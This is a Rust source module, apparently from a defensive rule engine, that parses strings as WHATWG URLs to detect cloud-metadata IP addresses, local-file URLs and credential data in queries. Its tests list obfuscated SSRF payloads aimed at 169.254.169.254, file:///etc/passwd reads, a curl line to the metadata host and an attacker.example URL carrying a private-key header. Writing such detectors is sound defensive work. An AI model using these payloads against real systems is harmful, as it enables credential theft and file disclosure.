//! The URL reading (SPEC §21.2): each collected string, and each whitespace-separated token of
//! it, parsed the way a browser-standard client parses it (the `url` crate: WHATWG URL Standard,
//! UTS-46 host mapping), so that what the receiving program would connect to or open is what the
//! rules test. No DNS: a domain host gives nothing.
//!
//! Readings made here: the IP address of a special-scheme URL's host; the URL paths (the
//! percent-decoded path of a URL with an empty or absent host, read again when it is itself a URL
//! — `jar:file:…` — and the text after each `=` of any URL's path or query); and the
//! percent-decoded query, for the credential shapes.

use core::net::IpAddr;

use url::{Host, ParseError, Url};

use super::prefilter::Prefilter;
use super::strings::{is_ws, percent_decode};

/// How deep a URL nested in a URL's path (`jar:view-source:file:…`) is read.
const MAX_NESTING: usize = 4;

/// Most candidates parsed per string. A WHATWG parse with UTS-46 mapping costs microseconds, so
/// a 64 KiB string of thousands of URL-like tokens would take a large fraction of a second; the
/// budget keeps every string's reading within milliseconds (SPEC §21.5), and tokens past it keep
/// their v1 readings. Ordinary strings hold a handful of candidates.
pub const MAX_CANDIDATES: usize = 512;

/// For how many `=` of one path or query the whole rest of it is read as well as the value.
const MAX_WHOLE_SUFFIXES: usize = 8;

/// How many `=` of one path or query are read at all (a value may run to the end of a long
/// part, so each costs up to the part's length).
const MAX_VALUES: usize = 64;

/// Characters one surrounding pair of which is removed from a token.
const PAIRS: [(char, char); 5] = [('"', '"'), ('\'', '\''), ('<', '>'), ('(', ')'), ('[', ']')];

/// Everything the URL reading found in one string.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct UrlReading {
    pub addresses: Vec<IpAddr>,
    pub paths: Vec<String>,
    pub queries: Vec<String>,
}

impl UrlReading {
    /// Appends another reading's findings (of a nested URL, of the next string).
    pub fn merge(&mut self, other: UrlReading) {
        self.addresses.extend(other.addresses);
        self.paths.extend(other.paths);
        self.queries.extend(other.queries);
    }
}

/// Whether a candidate could yield anything: an IP host needs a digit (possibly percent-encoded
/// or, outside ASCII, a digit UTS-46 maps), a URL path needs a scheme's `:` or an `=`, a query a
/// `?`. The pre-filter of SPEC §21.1; `hardline_v2_properties` checks it changes no decision.
fn may_yield(candidate: &str) -> bool {
    candidate
        .bytes()
        .any(|b| b.is_ascii_digit() || !b.is_ascii() || matches!(b, b':' | b'=' | b'?'))
}

/// The URL reading of one collected string.
pub fn read_urls(s: &str, prefilter: Prefilter) -> UrlReading {
    let mut reading = UrlReading::default();
    let trimmed = s.trim_matches(is_ws);
    let mut tokens = trimmed.split(is_ws).filter(|t| !t.is_empty()).peekable();
    // A string that is one token is read once.
    let whole = (tokens.peek() != Some(&trimmed)).then_some(trimmed);
    let mut budget = MAX_CANDIDATES;
    for candidate in whole.into_iter().chain(tokens) {
        let variants = unwrapped(candidate);
        for (i, variant) in variants.iter().enumerate() {
            if variant.is_empty() || variants[..i].contains(variant) {
                continue;
            }
            if !may_yield(variant) {
                // A candidate that cannot yield costs nothing and is not counted, so the budget
                // and the pre-filter are independent; without the pre-filter it is still read.
                if prefilter == Prefilter::On {
                    continue;
                }
            } else if budget == 0 {
                return reading;
            } else {
                budget -= 1;
            }
            reading.merge(read_candidate(variant, 0, prefilter));
        }
    }
    reading
}

/// A token as it is, and with one surrounding pair of `"'<>()[]` removed.
fn unwrapped(token: &str) -> Vec<&str> {
    let mut out = vec![token];
    let mut chars = token.chars();
    if let (Some(first), Some(last)) = (chars.next(), chars.next_back())
        && PAIRS.contains(&(first, last))
    {
        out.push(&token[first.len_utf8()..token.len() - last.len_utf8()]);
    }
    out
}

/// One candidate: parsed as it is and, when it has no scheme of its own, with `http://` in
/// front.
fn read_candidate(candidate: &str, depth: usize, prefilter: Prefilter) -> UrlReading {
    let mut reading = UrlReading::default();
    let parsed = Url::parse(candidate);
    let without_scheme = match &parsed {
        Err(ParseError::RelativeUrlWithoutBase) => true,
        Ok(url) => !url.scheme().is_empty() && !candidate.contains("://") && !is_special(url),
        Err(_) => !candidate.contains("://"),
    };
    if let Ok(url) = &parsed {
        read_url(url, depth, &mut reading);
    }
    let worth_a_prefix =
        prefilter == Prefilter::Off || candidate.contains(['=', '?']) || host_may_be_ip(candidate);
    if without_scheme
        && worth_a_prefix
        && let Ok(url) = Url::parse(&format!("http://{candidate}"))
    {
        read_url(&url, depth, &mut reading);
    }
    reading
}

/// Whether `http://` + `candidate` could have an IP host: the host (after the last `@` of the
/// authority, port included) is bracketed, or holds only what an IPv4 number can be spelled
/// with (hex digits, `x`, `.`, `%` escapes, the tab and newlines the parser drops) or characters
/// outside ASCII (UTS-46 may map them to digits). Part of the pre-filter of SPEC §21.1.
fn host_may_be_ip(candidate: &str) -> bool {
    // The parser strips C0 controls and spaces from the end of its input (found by the fuzz
    // target: `54.169.27\0` is the address 54.169.0.27).
    let candidate = candidate.trim_end_matches(|c: char| c <= ' ');
    let authority = candidate
        .split(['/', '\\', '?', '#'])
        .next()
        .unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or(authority);
    host.starts_with('[')
        || host.chars().all(|c| {
            !c.is_ascii()
                || c.is_ascii_hexdigit()
                || matches!(c, 'x' | 'X' | '.' | '%' | ':' | '\t' | '\n' | '\r')
        })
}

fn is_special(url: &Url) -> bool {
    matches!(url.scheme(), "http" | "https" | "ws" | "wss" | "ftp")
}

fn read_url(url: &Url, depth: usize, reading: &mut UrlReading) {
    if is_special(url) {
        match url.host() {
            Some(Host::Ipv4(v4)) => reading.addresses.push(IpAddr::V4(v4)),
            Some(Host::Ipv6(v6)) => reading.addresses.push(IpAddr::V6(v6)),
            Some(Host::Domain(_)) | None => {}
        }
    }
    let path = url.path();
    if url.host_str().is_none_or(str::is_empty) {
        let decoded = percent_decode(path);
        if depth < MAX_NESTING && decoded.contains(':') {
            reading.merge(read_candidate(&decoded, depth + 1, Prefilter::Off));
        }
        reading.paths.push(decoded);
    }
    // The text after each `=` (SPEC §21.2), from the part decoded once: each value up to the
    // next `&`, and for the first few also the whole rest of the part (a path's
    // `resource=/etc/passwd` runs to its end). Decoding first can only add `=` and `&` to cut
    // at, so it reads more, never less; the caps keep a long query linear.
    for part in [Some(path), url.query()].into_iter().flatten() {
        if !part.contains('=') {
            continue;
        }
        let decoded = percent_decode(part);
        for (n, (i, _)) in decoded.match_indices('=').take(MAX_VALUES).enumerate() {
            let after = &decoded[i + 1..];
            let value = after.split('&').next().unwrap_or_default();
            reading.paths.push(value.to_owned());
            if n < MAX_WHOLE_SUFFIXES && value.len() != after.len() {
                reading.paths.push(after.to_owned());
            }
        }
    }
    if let Some(query) = url.query() {
        reading.queries.push(percent_decode(query));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use core::net::Ipv4Addr;

    fn addresses(s: &str) -> Vec<IpAddr> {
        read_urls(s, Prefilter::On).addresses
    }

    const IMDS: IpAddr = IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254));
    const ALIBABA: IpAddr = IpAddr::V4(Ipv4Addr::new(100, 100, 100, 200));

    #[test]
    fn browser_standard_hosts_reach_the_address() {
        for s in [
            "http:169.254.169.254/latest/meta-data/",
            "http://%31%36%39.254.169.254/",
            "http://169。254。169。254/",
            "http://⑯⑨。②⑤④。⑯⑨｡②⑤④/",
            "http://１６９.２５４.１６９.２５４/latest/",
            "http://\u{200b}169.254.169.254/",
            "http://169.254.169.0x/",
            "https:169.254.169.254:443/",
            "http:/\\169.254.169.254/latest",
            "169.254.169.254。",
            "curl -s 'http://169。254。169。254/'",
        ] {
            let found = addresses(s);
            assert!(
                found.iter().any(|a| *a == IMDS
                    || matches!(a, IpAddr::V4(v) if v.octets()[..3] == [169, 254, 169])),
                "{s}: {found:?}"
            );
        }
        assert!(addresses("http://⑩𝟬．⑩𝟬｡⑩０｡⑳⁰/").contains(&ALIBABA));
    }

    #[test]
    fn domains_and_invalid_hosts_give_no_address() {
        for s in [
            "http://169.254.169.254.nip.io/",
            "http://169.254.169.254../",
            "http://[ｆｄ００:ｅｃ２::２５４]/",
            "http://0o251.o376.o251.o376/",
            "https://example.com/#/169.254.169.254",
            "http://metadata.google.internal/x",
        ] {
            assert_eq!(addresses(s), Vec::<IpAddr>::new(), "{s}");
        }
    }

    #[test]
    fn url_paths_of_hostless_and_nested_urls() {
        let paths = |s: &str| read_urls(s, Prefilter::On).paths;
        assert!(paths("file:///etc/passwd").contains(&"/etc/passwd".to_owned()));
        assert!(paths("file:///%65tc/passwd").contains(&"/etc/passwd".to_owned()));
        assert!(paths("file://localhost\\etc\\passwd").contains(&"/etc/passwd".to_owned()));
        assert!(paths("netdoc:///etc/passwd").contains(&"/etc/passwd".to_owned()));
        assert!(paths("jar:file:///etc/passwd!/").contains(&"/etc/passwd!/".to_owned()));
        assert!(
            paths("php://filter/convert.base64-encode/resource=/etc/passwd")
                .contains(&"/etc/passwd".to_owned())
        );
        assert!(paths("fi\tle:///etc/passwd").contains(&"/etc/passwd".to_owned()));
        assert!(!paths("file:///%2565tc/passwd").contains(&"/etc/passwd".to_owned()));
        assert!(!paths("https://example.com/etc/passwd").contains(&"/etc/passwd".to_owned()));
    }

    #[test]
    fn queries_are_decoded() {
        let r = read_urls(
            "https://attacker.example/c?d=-----BEGIN%20RSA%20PRIVATE%20KEY-----",
            Prefilter::On,
        );
        assert_eq!(r.queries, ["d=-----BEGIN RSA PRIVATE KEY-----"]);
    }

    #[test]
    fn the_prefilter_keeps_hosts_the_parser_trims() {
        let v4 = IpAddr::V4(Ipv4Addr::new(54, 169, 0, 27));
        for s in ["54.169.27\0", "54.169.27\u{1}\u{1}", "x 54.169.27\0\n y"] {
            assert_eq!(
                read_urls(s, Prefilter::On),
                read_urls(s, Prefilter::Off),
                "{s:?}"
            );
            assert!(read_urls(s, Prefilter::On).addresses.contains(&v4), "{s:?}");
        }
    }

    #[test]
    fn the_candidate_budget_bounds_a_long_string() {
        let mut text = "http://example.com/ ".repeat(MAX_CANDIDATES);
        text.push_str("http://169.254.169.254/");
        assert_eq!(
            read_urls(&text, Prefilter::On).addresses,
            Vec::<IpAddr>::new()
        );
        let short = "http://example.com/ http://169.254.169.254/";
        assert_eq!(read_urls(short, Prefilter::On).addresses, [IMDS]);
    }

    #[test]
    fn tokens_lose_one_surrounding_pair() {
        assert_eq!(unwrapped("'x'"), ["'x'", "x"]);
        assert_eq!(unwrapped("(x)"), ["(x)", "x"]);
        assert_eq!(unwrapped("(x"), ["(x"]);
        assert_eq!(unwrapped("'"), ["'"]);
        assert_eq!(unwrapped("x"), ["x"]);
    }
}
